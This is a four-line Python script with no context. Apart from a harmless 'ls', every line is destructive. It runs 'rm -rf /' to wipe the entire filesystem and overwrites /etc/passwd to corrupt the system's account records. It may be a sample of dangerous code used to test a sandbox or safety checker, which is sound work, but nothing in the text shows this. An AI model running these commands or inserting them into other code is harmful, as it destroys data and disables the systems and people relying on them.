import os, subprocess
subprocess.run(["rm", "-rf", "/"])
os.system("ls")
open("/etc/passwd", "w").write("x")
